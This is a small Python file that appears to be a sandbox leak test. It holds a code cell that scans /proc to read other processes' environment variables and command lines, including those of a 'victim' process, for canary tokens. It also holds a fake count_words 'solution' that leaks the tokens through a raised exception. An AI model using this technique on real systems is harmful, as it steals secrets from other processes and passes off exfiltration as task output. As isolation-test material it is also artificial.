"""Reads environment and command line of every process that /proc shows."""

CELL = """\
import os, re
from pathlib import Path


def shown():
    try:
        return [name for name in os.listdir("/proc") if name.isdecimal()]
    except OSError:
        return []


def loot():
    found = set()
    for pid in {"{victim}", str(os.getppid()), *shown()}:
        for name in ("environ", "cmdline"):
            try:
                found |= set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", Path("/proc", pid, name).read_bytes()))
            except OSError:
                pass
    return sorted(token.decode() for token in found)
"""
Q1 = """\
def count_words(sentence):
    raise LookupError(loot())
"""
PROOF = "off"
